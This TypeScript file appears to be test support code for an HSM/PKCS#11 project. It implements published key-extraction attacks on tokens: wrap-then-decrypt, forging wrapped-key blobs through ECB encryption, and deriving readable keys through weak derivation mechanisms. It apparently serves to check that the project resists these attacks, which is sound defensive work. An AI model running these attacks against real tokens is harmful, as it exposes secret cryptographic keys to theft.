import pkcs11js from "pkcs11js";
import type { ObjectTemplate } from "../../../src/hsm/attributes.js";
import { MECHANISMS } from "../../../src/hsm/cryptoki.js";
import { pinMemory } from "../../../src/hsm/native-address.js";
import type { ObjectHandle } from "../../../src/hsm/pkcs11.js";
import { forgeWrappedKey, openWrappedKey } from "./rfc3394.js";
import { type AttackMechanism, CARELESS, type TokenAttacker } from "./token-attacker.js";

/** The published attacks, as functions: each gives what the attacker won, or undefined. */

const AES = 0x1f;
const AES_CBC = 0x1082;
const DES3_CBC = MECHANISMS.DES3_CBC;

export const AES_ECB: AttackMechanism = { mechanism: MECHANISMS.AES_ECB };
export const KEY_WRAP: AttackMechanism = { mechanism: MECHANISMS.AES_KEY_WRAP };

/** Mechanisms that tokens wrap with and that a decryption undoes. */
const UNDOABLE: readonly AttackMechanism[] = [
  { mechanism: AES_CBC, parameter: Buffer.alloc(16) },
  { mechanism: DES3_CBC, parameter: Buffer.alloc(8) },
];

/** A careless AES key with the given uses. */
export function createCareless(attacker: TokenAttacker, value: Buffer, uses: ObjectTemplate): ObjectHandle {
  return attacker.create({ ...CARELESS, keyType: AES, value, ...uses });
}

/** K1: wraps the target under a key and deciphers the blob with the same key, or with another handle of it. */
export function wrapThenDecrypt(
  attacker: TokenAttacker,
  wrapping: ObjectHandle,
  target: ObjectHandle,
  deciphering = wrapping,
): Buffer | undefined {
  for (const mechanism of UNDOABLE) {
    const blob = attacker.wrap(mechanism, wrapping, target);
    const value = blob && attacker.decrypt(mechanism, deciphering, blob);
    if (value !== undefined) return value;
  }
  const blob = attacker.wrap(KEY_WRAP, wrapping, target);
  return blob && openWrappedKey(blob, (block) => attacker.decrypt(AES_ECB, deciphering, block));
}

/** K3: has the key encipher twelve blocks, so that the result is a chosen value wrapped under that key. */
export function forgeBlob(attacker: TokenAttacker, key: ObjectHandle, value: Buffer): Buffer | undefined {
  return forgeWrappedKey(value, (block) => attacker.encrypt(AES_ECB, key, block)?.subarray(0, 16));
}

const ENCRYPT_DATA: AttackMechanism["parameter"] & object = Object.assign(
  { type: pkcs11js.CK_PARAMS_AES_CBC },
  { iv: Buffer.alloc(16), data: Buffer.alloc(16, 5) },
);

/** Held for as long as the module may read it. */
const ECB_DATA = pinMemory(16);

/** CK_KEY_DERIVATION_STRING_DATA: pointer, length. */
function stringData(): Buffer {
  const parameter = Buffer.alloc(16);
  parameter.writeBigUInt64LE(ECB_DATA.address, 0);
  parameter.writeBigUInt64LE(BigInt(ECB_DATA.bytes.length), 8);
  return parameter;
}

/** The one mechanism by which an object of pinmac derives: an AES BDK. */
export const ECB_DERIVATION: AttackMechanism = { mechanism: MECHANISMS.AES_ECB_ENCRYPT_DATA, parameter: stringData() };

/** Mechanisms of derivation that give the caller a readable function of the key, with parameters of the attacker's choice. */
export const DERIVATIONS: readonly AttackMechanism[] = [
  { mechanism: pkcs11js.CKM_AES_CBC_ENCRYPT_DATA, parameter: ENCRYPT_DATA },
  { mechanism: pkcs11js.CKM_DES3_CBC_ENCRYPT_DATA, parameter: ENCRYPT_DATA },
  { mechanism: pkcs11js.CKM_XOR_BASE_AND_DATA, parameter: Buffer.alloc(16) },
  { mechanism: pkcs11js.CKM_EXTRACT_KEY_FROM_KEY, parameter: Buffer.alloc(8) },
  { mechanism: pkcs11js.CKM_CONCATENATE_BASE_AND_DATA, parameter: Buffer.alloc(16) },
  { mechanism: pkcs11js.CKM_SHA256_KEY_DERIVATION },
  ECB_DERIVATION,
];

/** What an attacker wants of a derived key: to read it. */
export const READABLE: ObjectTemplate = {
  class: 4,
  token: false,
  private: false,
  keyType: 0x10,
  sensitive: false,
  valueLength: 16,
  extractable: true,
};

/** K5: derives a readable key. */
export function deriveReadable(attacker: TokenAttacker, key: ObjectHandle, mechanisms = DERIVATIONS): Buffer | undefined {
  for (const mechanism of mechanisms) {
    const derived = attacker.derive(mechanism, key, READABLE);
    const value = derived && attacker.readValue(derived);
    if (value !== undefined) return value;
  }
  return undefined;
}
